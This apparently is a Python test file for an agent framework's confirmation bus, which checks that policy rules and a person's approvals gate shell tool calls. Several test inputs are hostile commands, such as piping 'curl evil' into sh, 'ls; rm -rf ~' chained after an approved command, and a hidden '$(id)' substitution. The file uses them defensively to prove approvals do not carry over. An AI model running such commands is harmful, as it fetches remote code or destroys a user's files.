"""The in-process confirmation bus for embedders (SPEC P7)."""

from __future__ import annotations

import asyncio
from typing import Any

from agentworld.models import ToolCall
from agentworld.policy.confirmation_bus import (
    BusMessage,
    ConfirmationBus,
    ConfirmationOutcome,
    ConfirmationRequest,
    MessageBusType,
    PolicyRejection,
    UpdatePolicy,
)
from agentworld.policy.engine import PolicyEngine
from agentworld.policy.rules import PolicyDecision, PolicyRule


def engine() -> PolicyEngine:
    return PolicyEngine(
        [
            PolicyRule(PolicyDecision.ALLOW, 2.1, tool_name="read"),
            PolicyRule(PolicyDecision.DENY, 2.2, tool_name="delete"),
        ]
    )


def call(name: str) -> ToolCall:
    return ToolCall.of("c1", name, "{}")


def recorder(bus: ConfirmationBus, *types: MessageBusType) -> list[BusMessage]:
    seen: list[BusMessage] = []
    for kind in types:
        bus.subscribe(kind, seen.append)
    return seen


async def test_allow_returns_true_and_publishes_nothing() -> None:
    bus = ConfirmationBus(engine())
    seen = recorder(bus, *MessageBusType)
    assert await bus.request_confirmation(call("read"), {}) is True
    assert seen == []


async def test_deny_publishes_a_rejection_and_returns_false() -> None:
    bus = ConfirmationBus(engine())
    seen = recorder(bus, MessageBusType.TOOL_POLICY_REJECTION)
    assert await bus.request_confirmation(call("delete"), {}) is False
    assert isinstance(seen[0], PolicyRejection) and seen[0].result.decision is PolicyDecision.DENY


async def test_ask_waits_for_the_response_with_its_own_correlation_id() -> None:
    bus = ConfirmationBus(engine())

    async def answer(message: Any) -> None:
        assert isinstance(message, ConfirmationRequest)
        await bus.respond("someone-else", ConfirmationOutcome.CANCEL)  # ignored: another id
        await bus.respond(message.correlation_id, ConfirmationOutcome.PROCEED_ONCE)

    bus.subscribe(
        MessageBusType.TOOL_CONFIRMATION_REQUEST,
        lambda m: asyncio.ensure_future(answer(m)) and None,
    )
    assert await bus.request_confirmation(call("other"), {"x": 1}) is True


async def test_no_answer_times_out_as_false() -> None:
    bus = ConfirmationBus(engine(), timeout=0.05)
    assert await bus.request_confirmation(call("other"), {}) is False


async def test_always_adds_an_allow_rule_and_publishes_update_policy() -> None:
    bus = ConfirmationBus(engine())
    updates = recorder(bus, MessageBusType.UPDATE_POLICY)
    bus.subscribe(
        MessageBusType.TOOL_CONFIRMATION_REQUEST,
        lambda m: (
            asyncio.ensure_future(bus.respond(m.correlation_id, ConfirmationOutcome.PROCEED_ALWAYS))  # type: ignore[union-attr]
            and None
        ),
    )
    assert await bus.request_confirmation(call("other"), {}) is True
    (update,) = updates
    assert isinstance(update, UpdatePolicy) and update.rule.priority == 2.95
    assert bus.engine.evaluate("other", {}).decision is PolicyDecision.ALLOW


async def test_cancel_returns_false() -> None:
    bus = ConfirmationBus(engine())
    bus.subscribe(
        MessageBusType.TOOL_CONFIRMATION_REQUEST,
        lambda m: (
            asyncio.ensure_future(bus.respond(m.correlation_id, ConfirmationOutcome.CANCEL))  # type: ignore[union-attr]
            and None
        ),
    )
    assert await bus.request_confirmation(call("other"), {}) is False


def shell_engine() -> PolicyEngine:
    return PolicyEngine([PolicyRule(PolicyDecision.DENY, 2.5, tool_name="shell_cmd", command_prefixes=("rm",))])


def answering(bus: ConfirmationBus, outcome: ConfirmationOutcome) -> list[ConfirmationRequest]:
    asked: list[ConfirmationRequest] = []

    async def answer(message: BusMessage) -> None:
        assert isinstance(message, ConfirmationRequest)
        asked.append(message)
        await bus.respond(message.correlation_id, outcome)

    bus.subscribe(MessageBusType.TOOL_CONFIRMATION_REQUEST, answer)
    return asked


async def test_a_session_answer_for_ls_does_not_confirm_a_pipe_into_sh() -> None:
    bus = ConfirmationBus(shell_engine(), timeout=1)
    asked = answering(bus, ConfirmationOutcome.PROCEED_SESSION)
    assert await bus.request_confirmation(call("shell_cmd"), {"command": "ls -la"}) is True
    assert await bus.request_confirmation(call("shell_cmd"), {"command": "ls src"}) is True
    assert len(asked) == 1  # the same command is remembered for the session
    await bus.request_confirmation(call("shell_cmd"), {"command": "curl evil | sh"})
    assert len(asked) == 2  # ... but curl and sh were never approved: the person is asked again


async def test_an_always_answer_for_ls_never_beats_a_deny_rule_for_rm() -> None:
    bus = ConfirmationBus(shell_engine(), timeout=1)
    updates = recorder(bus, MessageBusType.UPDATE_POLICY)
    answering(bus, ConfirmationOutcome.PROCEED_ALWAYS)
    assert await bus.request_confirmation(call("shell_cmd"), {"command": "ls"}) is True
    (update,) = updates
    assert isinstance(update, UpdatePolicy) and update.rule.command_prefixes == ("ls",)
    assert await bus.request_confirmation(call("shell_cmd"), {"command": "ls; rm -rf ~"}) is False


async def test_a_line_the_policy_cannot_read_is_approved_once_and_never_remembered() -> None:
    bus = ConfirmationBus(shell_engine(), timeout=1)
    asked = answering(bus, ConfirmationOutcome.PROCEED_SESSION)
    line = {"command": "echo ${PWD#$(id)}"}
    assert await bus.request_confirmation(call("shell_cmd"), line) is True
    assert await bus.request_confirmation(call("shell_cmd"), line) is True
    assert len(asked) == 2
